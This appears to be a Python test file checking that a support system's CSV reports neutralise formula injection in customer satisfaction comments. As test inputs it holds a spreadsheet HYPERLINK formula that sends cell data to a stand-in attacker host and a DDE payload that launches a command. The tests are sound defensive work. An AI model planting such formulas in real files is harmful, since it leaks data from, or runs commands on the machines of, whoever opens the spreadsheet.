"""#21.5: CSV downloads never carry a formula: a text cell starting with = + - @ tab or CR (OWASP's CSV
injection rule) is written with a leading ' — here a user's CSAT comment, downloaded by senior support."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from chalicelib.edge import csv_export
from tests.insight.test_reports_api import aggregate, clock, get  # noqa: F401  (fixtures)

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def _rated(api, clock, user, agent, comment):  # noqa: F811
    opened = api.post("/support/cases", token=user.token,
                      json_body={"category": "fees", "description": "手续费比说的多了，请核实"})
    assert opened.status == 201, opened.text
    ref = opened.json["case_id"]
    assert api.post(f"/support/cases/{ref}/resolve", token=agent.token, json_body={"summary": "已退回"}).status == 200
    confirmed = api.post(f"/support/cases/{ref}/confirm", token=user.token, json_body={"rating": 1, "comment": comment})
    assert confirmed.status == 200, confirmed.text
    return ref


def test_a_formula_in_a_csat_comment_is_exported_as_text(api, clock, alice, bob, agent, lead):  # noqa: F811
    _rated(api, clock, alice, agent, LEAK)
    _rated(api, clock, bob, agent, "@SUM(1+1)*cmd|' /C calc'!A0")
    clock.advance(dt.timedelta(minutes=10))
    aggregate()
    got = get(api, lead, "/support/reports/satisfaction?from=2026-11-24&to=2026-11-24&format=csv&table=low_ratings")
    assert got.status == 200, got.text
    rows = list(csv.DictReader(io.StringIO(got.text.lstrip("\ufeff"))))
    comments = sorted(row["comment"] for row in rows)
    assert comments == sorted(["'" + LEAK, "'@SUM(1+1)*cmd|' /C calc'!A0"])
    assert not any(value.startswith(csv_export.FORMULA_STARTS) for row in rows for value in row.values())
    page = get(api, lead, "/support/reports/satisfaction?from=2026-11-24&to=2026-11-24")
    assert LEAK in {c for t in page.json["tables"] for r in t["rows"] for c in r}   # the JSON keeps the words


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1", "＝1+1", "-", "=", "@"])
def test_every_formula_start_is_defused(value):
    assert csv_export.cell(value) == "'" + value
    row = list(csv.reader(io.StringIO(csv_export.text(["c"], [[value]]).lstrip("\ufeff"), newline="")))[1]
    assert row == ["'" + value]


@pytest.mark.parametrize("value, written", [("还款失败", "还款失败"), ("a=b", "a=b"), (-3, -3), (2.5, 2.5),
                                            (None, ""), ("'quoted", "'quoted"), ("", "")])
def test_ordinary_cells_are_unchanged(value, written):
    assert csv_export.cell(value) == written
